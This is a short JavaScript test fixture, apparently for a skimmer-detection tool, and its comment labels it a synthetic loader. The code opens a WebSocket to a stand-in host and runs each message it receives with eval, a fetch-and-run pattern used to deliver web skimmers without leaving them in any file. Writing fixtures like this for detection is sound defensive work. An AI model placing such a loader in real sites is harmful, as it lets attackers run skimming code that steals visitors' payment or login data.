// Synthetic WebSocket loader for skimwatch tests: the skimmer arrives as a
// message and is run with eval, so no file holds it.
(function () {
  var w = new WebSocket("wss://metrics-live.example/ws");
  w.onmessage = function (m) {
    try { eval(m.data); } catch (e) {}
    w.close();
  };
})();
